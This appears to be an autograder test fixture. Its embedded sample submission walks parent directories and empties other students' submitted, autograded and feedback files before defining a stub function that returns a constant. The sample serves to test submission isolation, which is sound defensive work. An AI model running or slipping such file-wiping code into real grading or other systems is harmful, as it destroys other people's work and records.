"""Overwrites what other students have handed in, and what was graded already. They must keep it."""

CODE = r"""
import pathlib

here = pathlib.Path.cwd()
for parent in here.parents:
    for kind in ("submitted", "autograded", "feedback"):
        for path in parent.glob(f"{kind}/*/parameters/*"):
            if path.parent != here and path.is_file():
                try:
                    path.write_text("")
                    print("emptied", path)
                except OSError as error:
                    print(error)


def dense_parameters(n_in, n_out):
    return 16
"""
